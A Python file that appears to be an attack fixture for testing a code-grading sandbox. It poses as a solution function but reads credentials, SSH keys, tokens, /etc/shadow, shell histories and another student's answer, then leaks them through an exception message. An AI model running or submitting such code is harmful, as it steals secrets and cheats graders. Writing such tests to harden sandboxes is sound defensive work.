# /// attack
# outcomes = ["crashed"]
# says = "keys []"
# ///
"""Looks in every home for keys, tokens, histories and the work of other students."""

import os
import pwd

NAMES = (
    ".aws/credentials",
    ".aws/config",
    ".netrc",
    ".ssh/id_ed25519",
    ".ssh/id_rsa",
    ".gitconfig",
    ".git-credentials",
    ".docker/config.json",
    ".pypirc",
    ".bash_history",
    ".config/gh/hosts.yml",
    "other-student/answer.py",
    ".kube/config",
    ".env",
)
PATHS = (
    "/etc/shadow",
    "/etc/passwd",
    "/etc/hostname",
    "/etc/machine-id",
    "/etc/resolv.conf",
    "/etc/hosts",
    "/run/secrets",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/github/home",
    "/github/workflow/event.json",
    "/home/runner/work",
    "/.dockerenv",
    "/etc/group",
)


def read_queue_twice(queue_name, messages):
    homes = {os.path.expanduser("~"), "/root", "/", "/tmp", "/home/runner", "/home/ubuntu"}
    try:
        homes |= {one.pw_dir for one in pwd.getpwall()}
        homes |= {f"/home/{name}" for name in os.listdir("/home")}
    except OSError:
        pass
    keys = []
    for path in [*PATHS, *(os.path.join(home, name) for home in homes for name in NAMES)]:
        try:
            with open(path) as file:
                keys.append(f"{path}: {file.read(200)}")
        except IsADirectoryError:
            keys.append(f"{path}: {os.listdir(path)}")
        except OSError:
            pass
    raise RuntimeError(f"keys {keys}")


read_log_twice = read_queue_twice
